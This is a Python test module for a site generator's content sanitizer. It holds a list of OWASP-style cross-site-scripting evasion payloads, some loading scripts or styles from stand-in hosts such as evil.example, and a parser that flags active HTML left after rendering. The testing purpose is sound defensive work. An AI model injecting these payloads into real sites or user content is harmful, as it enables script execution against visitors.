"""Script-injection vectors of the OWASP filter-evasion kinds, as contributors could write them,
and the detector of anything active left in rendered HTML."""

from html.parser import HTMLParser

from generator.content.safety import ALLOWED_TAGS, is_safe_link

BODY_VECTORS = {
    "script-tag": "<script>alert(1)</script>",
    "script-src-upper": "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-tab-in-scheme": "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "entity-encoded-href": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "md-mixed-case": "[点我](JaVaScRiPt:alert(1))",
    "md-vbscript": "[点我](vbscript:msgbox(1))",
    "md-data-document": "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-angle-destination": "[点我](<javascript:alert(1)>)",
    "md-image-js": "![图](javascript:alert(1))",
    "md-reference": "[点我][r]\n\n[r]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "leading-space-href": '<a href="  javascript:alert(1)">x</a>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": "<embed src=x.swf>",
    "form": '<form action="https://evil.example"><input name=q></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attribute": '<div style="background:url(javascript:alert(1))">x</div>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "base-href": '<base href="https://evil.example/">',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "body-onload": "<body onload=alert(1)>",
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "event-on-allowed-tag": '<span onmouseover="alert(1)">x</span>',
}

FIELD_VECTORS = {
    "tag": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "js-url": "javascript:alert(1)",
    "encoded-js-url": "&#106;avascript:alert(1)",
    "data-url": "data:text/html;base64,PHNjcmlwdD4=",
}


ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "form", "meta", "style", "link", "base"}
PAGE_ACTIVE_TAGS = ACTIVE_TAGS - {"form"}  # the browse page's own filter form


class ActiveContent(HTMLParser):
    """Collects anything in rendered HTML that could run or load from elsewhere."""

    def __init__(self, page: bool):
        super().__init__()
        self.page = page  # a whole page may use layout tags; a rendered body only the allowlist
        self.active: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in (PAGE_ACTIVE_TAGS if self.page else ACTIVE_TAGS) or (not self.page and tag not in ALLOWED_TAGS | {"div", "section", "h1"}):
            self.active.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.active.append(f"{tag} {name}")
            if name in ("href", "src") and value is not None and not is_safe_link(value):
                self.active.append(f"{tag} {name}={value}")
            if tag == "img" and name == "src" and value and value.startswith(("http:", "https:", "//")):
                self.active.append(f"remote image {value}")


def active_content(html: str, page: bool = False) -> list[str]:
    parser = ActiveContent(page)
    parser.feed(html)
    return parser.active
